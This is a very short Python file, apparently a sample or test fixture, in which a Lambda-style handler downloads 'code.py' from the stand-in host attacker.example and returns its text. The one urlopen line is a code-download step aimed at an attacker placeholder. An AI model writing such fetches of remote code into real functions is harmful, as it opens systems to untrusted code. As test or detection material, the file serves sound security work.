"""Fetches more code."""

import urllib.request


def handler(event, context):
    return urllib.request.urlopen("http://attacker.example/code.py").read().decode()
